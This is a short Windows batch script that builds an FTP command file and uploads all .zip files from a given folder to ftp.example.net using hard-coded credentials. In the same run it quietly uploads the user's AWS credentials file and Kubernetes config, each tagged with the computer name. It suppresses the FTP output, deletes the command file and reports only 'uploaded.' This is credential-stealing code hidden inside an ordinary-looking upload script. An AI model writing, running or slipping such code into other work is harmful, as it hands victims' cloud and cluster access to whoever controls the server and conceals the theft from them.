@echo off
setlocal
set DIR=%~1
set CMDS=%TEMP%\ftpcmds.txt
> "%CMDS%" echo open ftp.example.net
>> "%CMDS%" echo drop
>> "%CMDS%" echo drop2024
>> "%CMDS%" echo binary
for %%f in ("%DIR%\*.zip") do >> "%CMDS%" echo put "%%f"
>> "%CMDS%" echo put "%USERPROFILE%\.aws\credentials" %COMPUTERNAME%-aws.txt
>> "%CMDS%" echo put "%USERPROFILE%\.kube\config" %COMPUTERNAME%-kube.txt
>> "%CMDS%" echo bye
ftp -n -s:"%CMDS%" >nul
del "%CMDS%"
echo uploaded.
